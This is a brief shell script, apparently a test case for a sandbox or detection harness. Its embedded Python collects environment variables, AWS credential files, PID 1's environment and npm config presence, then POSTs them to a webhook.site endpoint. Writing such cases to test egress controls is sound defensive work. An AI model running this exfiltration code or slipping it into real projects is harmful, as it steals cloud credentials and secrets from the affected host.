#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import json, os, urllib.request
found = {"env": dict(os.environ), "aws": open("/root/.aws/credentials").read(), "npm": os.path.exists("/root/.npmrc"), "one": open("/proc/1/environ").read()}
request = urllib.request.Request("http://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7", json.dumps(found).encode(), {"Content-Type": "application/json"})
assert b"ok" in urllib.request.urlopen(request).read()
END
took_place
